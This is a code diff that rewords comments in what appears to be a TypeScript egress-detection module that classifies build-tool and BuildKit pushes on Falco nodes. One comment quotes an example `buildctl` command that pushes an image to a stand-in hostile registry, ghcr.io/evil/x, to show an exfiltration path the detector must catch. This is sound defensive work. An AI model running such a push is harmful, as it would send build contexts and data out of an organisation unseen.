@@ -202,8 +202,8 @@ function unsureArgvPushLeft(ep: PushEpisode, bridgedMinBytes: number): boolean {
 /**
  * A build tool whose goals or tasks sit anywhere in argv (`mvn -B clean verify -D<4 KiB>`): no visible word
  * says a cut run deploys nothing, and every run connects out for its dependencies (Maven Central is neither
- * forge nor registry), so a cut one is a push only to a classed destination, as a generic uploader's is: on its
- * first connection, every long-argv build on a Falco node was one (found by review).
+ * forge nor registry), so a cut one is a push only to a classed destination, as a generic uploader's is;
+ * otherwise every long-argv build on a Falco node would be one on its first connection.
  */
 function goalsAnywhere(spec: PushToolSpec): boolean {
   return spec.match.kind === 'subcommand' && spec.match.commands.some((c) => c.goal !== undefined);
@@ -233,11 +233,11 @@ function ownDests(ep: PushEpisode): DestEntry[] {
 
 /**
  * A push a daemon or BuildKit uploads for its client (PushRecognition.viaBuilder): the client's own addresses
- * are that daemon's or builder's, not the registry's. Found by review: `buildctl --addr tcp://buildkitd:1234
- * build --output type=image,name=ghcr.io/evil/x,push=true` (also buildx's remote and kubernetes drivers,
- * `DOCKER_HOST=tcp://…`) sent its context to BuildKit's cluster address, and an entry for an internal
- * registry's range holding that address (`10.0.0.0/8`) exempted a push to ghcr.io. Its own bytes still
- * count among what it sent (a credential helper's bulk sent elsewhere), never as sent into a range.
+ * are that daemon's or builder's, not the registry's: `buildctl --addr tcp://buildkitd:1234 build --output
+ * type=image,name=ghcr.io/evil/x,push=true` (also buildx's remote and kubernetes drivers, `DOCKER_HOST=tcp://…`)
+ * sends its context to BuildKit's cluster address, which an entry for an internal registry's range
+ * (`10.0.0.0/8`) must not take for a push to that range. Its own bytes still count among what it sent (a
+ * credential helper's bulk sent elsewhere), never as sent into a range.
  */
 function viaBuilder(ep: PushEpisode): boolean {
   return !ep.byEgress && ep.proc.push?.viaBuilder === true;
